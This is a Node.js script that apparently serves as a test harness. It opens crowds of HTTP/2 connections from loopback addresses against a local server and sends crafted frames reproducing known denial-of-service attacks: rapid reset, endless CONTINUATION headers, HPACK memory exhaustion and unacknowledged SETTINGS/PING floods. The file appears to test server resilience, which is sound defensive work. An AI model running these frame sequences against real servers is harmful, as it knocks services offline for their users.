/**
 * A crowd of HTTP/2 clients without API keys, spread over 40 loopback addresses.
 * Usage: `node http2-crowd.mjs <port> <connections> <kind>`. Prints `ready` when all requests are sent, and runs until
 * it is killed.
 *
 * Each connection sends 100 frames or requests per round, or 20 requests if the kind is `harmless`:
 * - `harmless`: requests with small heads. Reads the responses.
 * - `memory`: large heads by reference to one compressed field, and a window of 0 (CVE-2026-49975). One round per
 * second.
 * - `resets`: resets every request immediately (CVE-2023-44487). One round per second.
 * - `continuation`: a head that never ends (CVE-2024-27316).
 * - `settings`, `pings`: frames that the server must acknowledge. Does not read the acknowledgments.
 */
import { once } from 'node:events';
import { connect } from 'node:tls';

const [port, connections, kind] = [Number(process.argv[2]), Number(process.argv[3]), process.argv[4]];
const ADDRESSES = 40;
const AT_ONCE = 25;
const STREAMS = kind === 'harmless' ? 20 : 100;
const FRAME = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 };
const WHOLE = 5;

function frame(type, flags, stream, body = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(body.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, body]);
}

/**
 * Encodes an HPACK literal field with a new name (RFC 7541 section 6.2).
 * @param first first byte: 0 without indexing, 0x40 with indexing
 */
function literal(name, value, first = 0) {
  const length = (text) => {
    if (text.length < 127) return [text.length];
    const rest = text.length - 127;
    return [127, (rest & 127) | 128, rest >> 7];
  };
  return Buffer.from([first, ...length(name), ...Buffer.from(name), ...length(value), ...Buffer.from(value)]);
}

/** The head of a request without a key. `:method` and `:scheme` are references to the static table. */
const HEAD = Buffer.concat([Buffer.from([0x82, 0x87]), literal(':path', '/api/v1/open'), literal(':authority', 'a')]);
const LARGE = literal('x-a', 'a'.repeat(3_600), 0x40);
/** Reference to the newest entry of the dynamic table. */
const REFERENCE = Buffer.from([0x80 | 62]);
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function settings() {
  const body = Buffer.alloc(6);
  body.writeUInt16BE(4);
  body.writeUInt32BE(kind === 'memory' ? 0 : 65_535, 2);
  return frame(FRAME.settings, 0, 0, body);
}

/**
 * Returns the frames of one round of requests.
 * @param first ID of the first stream
 */
function round(first) {
  const frames = [];
  for (let at = 0; at < STREAMS; at++) {
    const stream = first + 2 * at;
    if (kind === 'memory') {
      const large = stream === 1 ? LARGE : REFERENCE;
      frames.push(frame(FRAME.headers, WHOLE, stream, Buffer.concat([HEAD, large, REFERENCE, REFERENCE, REFERENCE])));
    } else if (kind === 'resets') {
      frames.push(frame(FRAME.headers, WHOLE, stream, HEAD), frame(FRAME.reset, 0, stream, Buffer.from([0, 0, 0, 8])));
    } else if (kind === 'continuation') {
      if (stream === 1) frames.push(frame(FRAME.headers, 0, 1, HEAD));
      frames.push(frame(FRAME.continuation, 0, 1, literal('x-b', 'b'.repeat(1_000))));
    } else if (kind === 'settings') frames.push(settings());
    else if (kind === 'pings') frames.push(frame(FRAME.ping, 0, 0, Buffer.alloc(8)));
    else frames.push(frame(FRAME.headers, WHOLE, stream, HEAD));
  }
  return Buffer.concat(frames);
}

async function open(index) {
  const localAddress = `127.0.0.${2 + (index % ADDRESSES)}`;
  const socket = connect({ port, host: '127.0.0.1', localAddress, ALPNProtocols: ['h2'], rejectUnauthorized: false });
  socket.on('error', () => undefined);
  await once(socket, 'secureConnect').catch(() => undefined);
  socket.write(Buffer.concat([PREFACE, settings(), round(1)]));
  if (kind === 'settings' || kind === 'pings') {
    socket.pause();
    for (let at = 0; at < 50; at++) socket.write(round(1));
  } else socket.resume();
  return socket;
}

const sockets = [];
for (let at = 0; at < connections; at += AT_ONCE) {
  const batch = Array.from({ length: Math.min(AT_ONCE, connections - at) }, (_, index) => open(at + index));
  sockets.push(...(await Promise.all(batch)));
}
process.stdout.write('ready\n');
let first = 1 + 2 * STREAMS;
setInterval(() => {
  const again = kind === 'memory' || kind === 'resets' ? sockets.filter((socket) => !socket.destroyed) : [];
  for (const socket of again) socket.write(round(first));
  first += 2 * STREAMS;
}, 1_000);
